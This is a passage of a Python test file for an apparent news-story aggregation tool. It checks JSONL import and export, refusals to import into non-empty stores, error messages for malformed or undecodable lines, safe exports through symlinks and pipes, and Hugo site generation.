    lines = buf.getvalue().splitlines()
    with pytest.raises(PublishError, match="already holds data"):
        import_jsonl(source, [ImportSource("dump", lines)])
    source.close()
    target = Store(tmp_path / "new.db")
    broken = lines[:5] + ["{not json"] + lines[5:]
    with pytest.raises(PublishError, match="dump:6"):
        import_jsonl(target, [ImportSource("dump", broken)])
    dangling = [line for line in lines if '"type":"article"' in line]  # no events, stories or raw inputs
    with pytest.raises(PublishError, match="dangling"):
        import_jsonl(target, [ImportSource("articles", dangling)])
    assert target.is_empty() and target.counts()["articles"] == 0
    target.close()


def test_import_refuses_a_store_holding_only_subscriptions_and_changes_nothing(seeds_db, tmp_path):
    source_path = tmp_path / "source.db"
    shutil.copy(seeds_db, source_path)
    source = Store(source_path)
    source.add_feed("https://example.org/theirs.xml", "Theirs", 900)
    dump = tmp_path / "dump.jsonl"
    with dump.open("w", encoding="utf-8") as fh:
        write_jsonl(source, fh, "all")
    source.close()
    target_path = tmp_path / "mine.db"
    target = Store(target_path)
    target.add_feed("https://example.org/mine.xml", "Mine", 900)  # the same id as theirs: it was replaced
    target.close()
    before = table_digest(target_path)
    refused = runner.invoke(app, ["import", "jsonl", str(dump), "--db", str(target_path)])
    assert refused.exit_code == 1
    assert refused.output == f"error: {target_path}: the store already holds data (feeds); import into a new, empty database\n"
    assert table_digest(target_path) == before


def test_an_undecodable_line_is_named_by_its_own_file_and_line(seeds_db, tmp_path):
    source = Store(seeds_db)
    buf = io.StringIO()
    write_jsonl(source, buf, "all")
    source.close()
    lines = buf.getvalue().encode("utf-8").splitlines(keepends=True)
    good, bad = tmp_path / "good.jsonl", tmp_path / "bad.jsonl"
    good.write_bytes(b"".join(lines[:-3]))
    bad.write_bytes(lines[-3] + lines[-2] + b'{"type": "outlet", "id": 999, "name": "Caf\xe9"}\n' + lines[-1])
    for files in ([good, bad], [bad, good]):
        db = tmp_path / f"{files[0].stem}-first.db"
        failed = runner.invoke(app, ["import", "jsonl", *map(str, files), "--db", str(db)])
        assert failed.exit_code == 1 and failed.output.startswith(f"error: {bad}:3: 'utf-8' codec can't decode"), failed.output
        store = Store(db)
        assert store.is_empty()
        store.close()


def test_cli_exports_and_imports(seeds_db, tmp_path):
    dump = tmp_path / "dump.jsonl"
    ok = runner.invoke(app, ["export", "jsonl", "--what", "all", "--db", str(seeds_db), "-o", str(dump)])
    assert ok.exit_code == 0, ok.output
    new_db = tmp_path / "new.db"
    loaded = runner.invoke(app, ["import", "jsonl", str(dump), "--db", str(new_db)])
    assert loaded.exit_code == 0 and "imported" in loaded.stdout, loaded.output
    feed = runner.invoke(app, ["export", "atom", "--db", str(new_db)])
    assert feed.exit_code == 0 and feedparser.parse(feed.stdout_bytes).bozo == 0
    events = runner.invoke(app, ["export", "csv", "--what", "events", "--db", str(new_db)])
    assert events.exit_code == 0 and len(list(csv.DictReader(io.StringIO(events.stdout)))) >= 3
    site = runner.invoke(app, ["export", "hugo", str(tmp_path / "site"), "--db", str(new_db)])
    assert site.exit_code == 0 and (tmp_path / "site/config.toml").is_file(), site.output
    bad = runner.invoke(app, ["export", "csv", "--what", "all", "--db", str(new_db)])
    assert bad.exit_code != 0 and "only exported as jsonl" in bad.output
    again = runner.invoke(app, ["import", "jsonl", str(dump), "--db", str(new_db)])
    assert again.exit_code == 1 and "already holds data" in again.output


def test_an_export_never_overwrites_the_store_and_a_failed_one_leaves_the_old_file(seeds_db, tmp_path):
    db = tmp_path / "own.db"
    shutil.copy(seeds_db, db)
    before = Store(db).counts()
    for args in (["export", "jsonl", "--what", "all", "-o", str(db)], ["export", "atom", "-o", str(db)],
                 ["export", "csv", "-o", f"{db}-wal"], ["feeds", "export", str(db)]):
        refused = runner.invoke(app, [*args, "--db", str(db)])
        assert refused.exit_code == 2 and "is the store's own database" in refused.output, args
    assert Store(db).counts() == before
    kept = tmp_path / "kept.csv"
    kept.write_text("precious\n")
    failed = runner.invoke(app, ["export", "csv", "--what", "all", "-o", str(kept), "--db", str(db)])
    assert failed.exit_code != 0 and kept.read_text() == "precious\n"
    written = runner.invoke(app, ["export", "csv", "--what", "events", "-o", str(kept), "--db", str(db)])
    assert written.exit_code == 0 and kept.read_text().startswith("id,")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no part files left


def test_an_export_to_a_link_or_a_pipe_writes_through_it(seeds_db, tmp_path):
    import os

    real = tmp_path / "real.csv"
    real.write_text("old\n")
    (tmp_path / "link.csv").symlink_to(real)
    done = runner.invoke(app, ["export", "csv", "--what", "events", "-o", str(tmp_path / "link.csv"), "--db", str(seeds_db)])
    assert done.exit_code == 0 and (tmp_path / "link.csv").is_symlink() and real.read_text().startswith("id,")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    piped = runner.invoke(app, ["export", "jsonl", "--what", "events", "-o", str(fifo), "--db", str(seeds_db)])
    reader.join(30)
    assert piped.exit_code == 0 and not fifo.is_file() and got and got[0].startswith(b"{")


def test_a_hugo_export_reports_its_progress_up_to_every_page(store, tmp_path):
    calls: list[tuple[int, int]] = []
    report = export_hugo(store, tmp_path / "site", HugoOptions(progress=lambda done, total: calls.append((done, total))))
    counts = store.counts()
    total = counts["stories"] + counts["events"] + counts["articles"]
    assert calls and calls[-1] == (total, total) and all(t == total for _, t in calls)
    pages = len(list((tmp_path / "site/content").rglob("*-*.md")))
    assert report.written >= pages > 0 and pages <= total  # every page counted once, rows without a page too


def test_the_built_lists_count_one_event_in_the_singular(seeds_db, tmp_path):
    from datetime import datetime, timezone

    from storyline.ingest import Pipeline
    from storyline.models import Document, IngestResult
    from storyline.settings import load

    path = tmp_path / "one.db"
    shutil.copy(seeds_db, path)
    store = Store(path)
    text = ("The harbour authority closed the old ferry pier on Monday after divers found rotten piles. "
            "Commuters will use a temporary landing beside the fish market until the spring.")
    doc = Document(source="test:pier", kind="text", key="test:pier", title="Old ferry pier closes", text=text,
                   outlet="Harbour Post", published=datetime(2024, 3, 5, tzinfo=timezone.utc))
    pipeline = Pipeline(store, load({"ner": "fast"}, env={}))
    pipeline.store_documents([doc], IngestResult())
    pipeline.refresh()
    site = tmp_path / "site"
    export_hugo(store, site, HugoOptions())
    hugo_build(site)
    counts = re.findall(r"\((\d+) (events?)\)", (site / "public/index.html").read_text())
    assert ("1", "event") in counts and all((n == "1") == (word == "event") for n, word in counts), counts
